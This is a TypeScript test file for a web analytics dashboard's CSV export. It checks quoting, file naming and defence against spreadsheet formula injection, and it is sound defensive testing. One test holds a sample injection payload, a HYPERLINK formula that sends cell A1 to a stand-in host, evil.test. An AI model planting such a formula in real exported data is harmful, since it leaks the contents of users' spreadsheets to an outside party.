import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvFileName, toCsv } from '../../dashboard/site-view/csv-download.ts';
import { parseCsv } from '../helpers/privacy-zip.ts';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
/** Any text, often starting with a formula trigger and holding what needs quoting. */
const text = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.tuple(fc.constantFrom(...TRIGGERS), fc.string({ unit: 'binary' })).map(([t, s]) => t + s),
  fc.array(fc.constantFrom(...TRIGGERS, '"', ',', '\n', "'", 'a', '1')).map((cs) => cs.join('')),
);

describe('site view CSV', () => {
  it('quotes as RFC 4180 says, with CRLF line ends', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(12.5)).toBe('12.5');
    expect(toCsv(['Page', 'Visitors'], [['/a,b', 3], ['/', 1]])).toBe('Page,Visitors\r\n"/a,b",3\r\n/,1\r\n');
  });

  it('names the file by site, part, days and filters', () => {
    const filters = [{ op: 'is' as const, dimension: 'visit:country', values: ['NO'] }];
    expect(csvFileName('example.com', 'pages', '2026-11-01', '2026-11-28', filters)).toBe('example.com_pages_2026-11-01_2026-11-28_country-NO.csv');
    expect(csvFileName('example.com', 'sources', '2026-11-01', '2026-11-01', [{ op: 'contains_not', dimension: 'event:page', values: ['/blog/', '/a b'] }])).toBe(
      'example.com_sources_2026-11-01_2026-11-01_page-contains-not-blog-+-a-b.csv',
    );
  });

  it('writes a visitor\'s formula as text a spreadsheet shows, not runs', () => {
    const formula = '=HYPERLINK("http://evil.test/?x="&A1,"x")';
    expect(csvField(formula)).toBe(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""x"")"`);
    expect(toCsv(['Event', 'Visitors'], [[formula, 3], ['@SUM(1+1)', -3], ['-2+3', 1], ['+1', 0], ['\tx', 2], ['\rx', 2], ['Signup', -1.5]])).toBe(
      `Event,Visitors\r\n"'=HYPERLINK(""http://evil.test/?x=""&A1,""x"")",3\r\n'@SUM(1+1),-3\r\n'-2+3,1\r\n'+1,0\r\n'\tx,2\r\n"'\rx",2\r\nSignup,-1.5\r\n`,
    );
  });

  it('never starts a text cell with a formula trigger, and reads back as the text with its one added quote', () => {
    fc.assert(
      fc.property(text, fc.integer({ min: -1_000, max: 1_000 }), (value, n) => {
        const cell = csvField(value);
        const unquoted = cell.startsWith('"') ? cell.slice(1) : cell;
        expect(TRIGGERS).not.toContain(unquoted[0]);
        const read = parseCsv(toCsv(['value', 'n'], [[value, n]])).rows[0]!;
        expect(TRIGGERS.includes(value[0]!) ? read.value!.slice(1) : read.value).toBe(value);
        expect(read.value!.startsWith("'")).toBe(TRIGGERS.includes(value[0]!) || value.startsWith("'"));
        expect(read.n).toBe(String(n));
      }),
      { numRuns: 500 },
    );
  });
});
